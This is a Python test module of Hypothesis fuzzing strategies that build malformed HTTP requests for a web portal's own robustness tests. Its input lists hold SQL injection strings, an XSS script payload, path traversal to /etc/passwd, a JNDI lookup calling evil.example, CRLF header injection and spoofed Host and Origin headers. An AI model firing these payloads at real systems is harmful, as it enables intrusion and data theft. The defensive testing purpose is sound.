"""What no browser sends: words, headers and bodies for whatever address they go to, and `STRIKES`, which makes requests of them.

tests/portal/siege.py knows the addresses, sends the requests and judges the answers.
"""

import re
from dataclasses import dataclass
from urllib.parse import quote_from_bytes

from hypothesis import strategies as st

# What a view may be given in place of a number, a name, a day, a search: as bytes, before anybody decodes them.
NUMBERS = (
    b"0", b"-1", b"00", b"01", b"1e9", b"1.5", b"NaN", b"Infinity", b"-0", b"0x10", b"9" * 19, b"9" * 400, b"1" * 5000,
    "１２".encode(), "٣".encode(), "²".encode(), "Ⅷ".encode(), "九".encode(), b"1e400", b"-9223372036854775809",
)  # fmt: skip
DAYS = (
    b"9999-99-99", b"0000-00-00", b"2026-02-30", b"10000-01-01", b"9999-12-31T23:59:59", b"0001-01-01", b"2026-W01-1",
    b"2026-05-01T10:00+99:99", b"2026-05-01T10:00-23:59", b"20260501", "２０２６-05-01".encode(),
)  # fmt: skip
SEARCHES = (
    b'"', b'"\xe8\x8a\xb1\xe5\x91\x97 OR', b"AND NOT (", b"*", b"a:b", b"%", b"_", b"\\", b"%_\\%", b"' OR '1'='1", b"'; --",
    b"((((", b"[", b"(?P<", b"-", b"\xe3\x80\x8a\xe6\xb0\x91\xe6\xb3\x95\xe5\x85\xb8\xe3\x80\x8b\xe7\xac\xac", b"{{law:x-1#1}}",
)  # fmt: skip
BYTES = (
    b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe8", b"\x00", b"\r\nX-Evil: 1", b"\n", b"\x1b[31m",
    b"\x7f",
)  # fmt: skip
WRITING = tuple(
    word.encode() for word in (
        "\u202e倒过来", "\u200b\u200d\ufeff", "\uffff\ufffe", "😀👨‍👩‍👧", "e\u0301" * 200, "ﷺ" * 50, "שלום", "\U0010ffff",
        "İıſ", "花" * 3000,
    )
)  # fmt: skip
EVIL = "<script>alert(4711)</script>"
PLACES = (
    b"//evil.example/", b"https:evil.example", b"javascript:alert(1)", b"\\\\evil.example", b"../../etc/passwd",
    b"..%2f..%2f", b";.js", b"x.css", b"__proto__", b"${jndi:ldap://evil.example}", f'"\'>{EVIL}'.encode(), b"law:x-1#1",
)  # fmt: skip
WORDS = (*NUMBERS, *DAYS, *SEARCHES, *BYTES, *WRITING, *PLACES, b"")
# The names by which the site reads queries and bodies; forms bring their own.
NAMES = (
    "page", "q", "kind", "tag", "category", "sort", "before", "on", "at", "v", "status", "stage", "product", "next", "from", "e",
    "o", "p", "all", "_popup", "_to_field", "_changelist_filters", "literal", "article", "section", "old", "new", "days", "list",
    "whose", "show", "tab", "law", "r", "reply", "term", "app_label", "model_name", "field_name", "page[]", "created_at__year",
    "id__in", "title__regex", "pk__gt", "created_at__gte", "title__contains", "verb", "version", "step", "do", "also", "task",
    "reason", "note", "remark", "stamp", "table", "data", "file_name", "action", "_selected_action", "index", "select_across",
    "form-TOTAL_FORMS", "form-INITIAL_FORMS", "form-0-id", "_save", "event", "drop", "thing", "seen", "addresses", "carry",
    "schedule", "on_page", "seen_version", "seen_parts", "means_the_new", "text", "body", "title", "login", "password", "email",
    "code", "csrfmiddlewaretoken", "file", "kept", "items",
)  # fmt: skip
HEADERS = {
    "HTTP_HOST": (
        b"evil.example", b"127.0.0.1:99999", b"127.0.0.1:0x50", b"[::1", b"", b"127.0.0.1\xff", b"a" * 300, b"127.0.0.1:80@e",
    ),
    "HTTP_COOKIE": (
        b'session="\\000aaaaaaaaaaaa"', b"session=" + b"a" * 5000, b"session=" + b"\xff" * 9, b"=;=;;;\x7f", b"messages=x:y:z",
        b"wrote=" + b"9" * 40, b"csrf=" + "花".encode() * 20, b'sessionid="', b"a=" * 2000,
    ),
    "HTTP_ACCEPT_ENCODING": (b"br;q=x", b"gzip;q=0, *;q=-1", b"," * 500, b"\xff", b"identity;q=0"),
    "HTTP_IF_NONE_MATCH": (b'W/"', b"*", b'"a' + b'","a' * 500, b"\xff"),
    "HTTP_IF_MODIFIED_SINCE": (b"Thu, 99 Foo 99999 99:99:99 GMT", b"0", b"\xff", b"Mon, 01 Jan 0001 00:00:00 GMT", b"9" * 400),
    "HTTP_IF_RANGE": (b"x", b'W/"x"'),
    "HTTP_RANGE": (
        b"bytes=-1", b"bytes=9-1", b"bytes=" + b"9" * 400 + b"-", b"bytes=0-0,0-0", b"x", b"bytes=a-b", b"bytes=-0",
    ),
    "HTTP_X_FORWARDED_FOR": (
        b"fe80::1%" + b"a" * 300, b"1.2.3.4, ,,", b"999.1.1.1", b"::ffff:1.2.3.4", b"," * 500, b"\xff", b"127.0.0.1",
    ),
    "HTTP_X_FORWARDED_PROTO": (b"https", b"javascript", b"https,http", b"\xff"),
    "HTTP_X_FORWARDED_HOST": (b"evil.example",),
    "HTTP_REFERER": (
        b"http://[/search/?q=1", b"http://127.0.0.1/search/?q=%ff&page=9", b"\xff", b"//", b"http://127.0.0.1:x/search/?",
    ),
    "HTTP_ORIGIN": (b"http://[", b"null", b"http://evil.example", b"\xff", b"://"),
    "HTTP_ACCEPT": (b"application/json", b"*/*;q=x", b";;;", b"text/html;" + b"a=b;" * 500),
    "HTTP_ACCEPT_LANGUAGE": (b"zh;q=9", b"\xff", b"a-" * 300),
    "HTTP_USER_AGENT": (b"", b"\xff\xfe", b"x" * 5000),
    "HTTP_SEC_FETCH_SITE": (b"cross-site", b"\xff"),
    "HTTP_X_FRAGMENT": (b"1",),
    "HTTP_X_REQUESTED_WITH": (b"XMLHttpRequest",),
    "HTTP_X_HTTP_METHOD_OVERRIDE": (b"DELETE",),
    "HTTP_TRANSFER_ENCODING": (b"chunked", b"gzip, chunked", b"x"),
    "HTTP_EXPECT": (b"100-continue",),
    "HTTP_UPGRADE": (b"websocket",),
    "HTTP_AUTHORIZATION": (b"Basic \xff", b"Bearer x", b"Digest"),
    "CONTENT_LENGTH": (b"-1", b"abc", b"2147483648", b"9" * 5000, b"\xb2", b"", b"1_0", b" 5", b"+5"),
    "CONTENT_TYPE": (
        b"", b";", b"a; charset=hex", b"a; charset=utf-7", b"a; charset=\x00", b"a; charset*=nope''x", b"a; charset*=utf-8''%00",
        b"a; charset*=utf-8''%ff", b"a; charset*0*=x''y", b"a; charset=idna", b"application/json; charset=rot13", b"\xff/\xff",
        b"multipart/form-data", b"multipart/form-data; boundary=", b"multipart/form-data; boundary=" + b"b" * 300,
        b'multipart/form-data; boundary="\xe8"', b"application/x-www-form-urlencoded; charset=UTF-8", b"x; " + b"a=b; " * 300,
    ),
}  # fmt: skip
USUAL = ("GET", "HEAD", "OPTIONS", "POST")
# Most reach a view; one in twenty is one that none knows.
METHODS = (*["GET"] * 9, *["POST"] * 9, "HEAD", "OPTIONS")
ODD_METHODS = ("TRACE", "PUT", "CONNECT", "BREW", "get", "\u00ff")


@dataclass(frozen=True)
class Strike:
    """What is wrong with a request, whatever address it goes to."""

    method: str
    path: tuple[bytes, ...]
    """Words in place of the parts of the address; nothing: the address as it should be."""
    query: tuple[tuple[int, bytes], ...]
    """Values, each for the name that stands at this place among those that the address knows."""
    raw_query: bytes
    headers: tuple[tuple[str, bytes], ...]
    body: str
    """One of BODIES."""
    given: tuple[tuple[int, bytes], ...]

    def kinds(self):
        yield self.method if self.method in USUAL else "another method"
        named = {"path": self.path, "query": self.query, "raw query": self.raw_query}
        yield from (name for name, given in named.items() if given)
        yield from (name.removeprefix("HTTP_").lower() for name, _ in self.headers)
        if self.method == "POST":
            yield f"body: {self.body}"


def quote(word: bytes) -> bytes:
    return quote_from_bytes(word, safe="").encode()


def urlencoded(fields):
    return b"&".join(quote(name.encode()) + b"=" + quote(word) for name, word in fields)


def multipart(fields, boundary=b"b0undary"):
    """A form with files; every fifth field is one, whose name is as odd as what is in it."""
    parts = []
    for number, (name, word) in enumerate(fields):
        odd = re.sub(rb'["\r\n]', b"", word[:50])
        file = b'; filename="' + odd + b'"' if number % 5 == 4 else b""
        head = b'Content-Disposition: form-data; name="' + name.encode() + b'"' + file
        parts.append(b"--" + boundary + b"\r\n" + head + b"\r\n\r\n" + word + b"\r\n")
    return b"".join(parts) + b"--" + boundary + b"--\r\n"


ODD_CODING = (
    b'--b0undary\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64\r\n\r\n%%%\r\n'
    b"--b0undary\r\nContent-Disposition: form-data; name*=nope''x\r\nContent-Type: a; charset=hex\r\n\r\n1\r\n"
    b"--b0undary--\r\n"
)
MULTIPART, FORM = b"multipart/form-data; boundary=b0undary", b"application/x-www-form-urlencoded"
BODIES = {
    "form": lambda fields: (FORM, urlencoded(fields)),
    "many parameters": lambda fields: (FORM, b"a=1&" * 100_000),
    "empty": lambda fields: (FORM, b""),
    "raw bytes as form": lambda fields: (
        FORM,
        b"=&&;%&a=%zz&%ff=%ff&" + b"".join(word for _, word in fields),
    ),
    "multipart": lambda fields: (MULTIPART, multipart(fields)),
    "multipart without end": lambda fields: (MULTIPART, multipart(fields)[:-12]),
    "multipart of another boundary": lambda fields: (MULTIPART, multipart(fields, b"other")),
    "multipart, odd coding": lambda fields: (MULTIPART, ODD_CODING),
    "JSON": lambda fields: (b"application/json", b'{"a": [1e999, "\\ud800", {"b": ' + b"[" * 5000),
    "no kind": lambda fields: (b"", b"".join(word for _, word in fields)),
}
# Most bodies are forms: they reach the views, the others seldom do.
LIKELY = (*["form"] * 8, *["multipart"] * 3, *sorted(BODIES))

_text = st.text(max_size=12).map(lambda text: text.encode("utf-8", "replace"))
_word = st.one_of(st.sampled_from(WORDS), st.sampled_from(WORDS), st.binary(max_size=24), _text)
_field = st.tuples(st.integers(0, 9999), _word)
_header = st.sampled_from(sorted(HEADERS)).flatmap(
    lambda name: st.tuples(st.just(name), st.sampled_from(HEADERS[name]))
)
STRIKES = st.builds(
    Strike,
    method=st.sampled_from((*METHODS, "")).flatmap(
        lambda method: st.just(method) if method else st.sampled_from(ODD_METHODS)
    ),
    path=st.one_of(st.just(()), st.just(()), st.tuples(_word, _word, _word)),
    query=st.lists(_field, max_size=3).map(tuple),
    raw_query=st.one_of(
        st.just(b""), st.sampled_from((b"", b"%", b"%zz", b"&&=;", b"\xff", b"a=" * 300, b"?", b"page=1;x"))
    ),
    headers=st.one_of(st.just([]), st.lists(_header, max_size=2, unique_by=lambda one: one[0])).map(tuple),
    body=st.sampled_from(LIKELY),
    given=st.lists(_field, min_size=1, max_size=8).map(tuple),
)
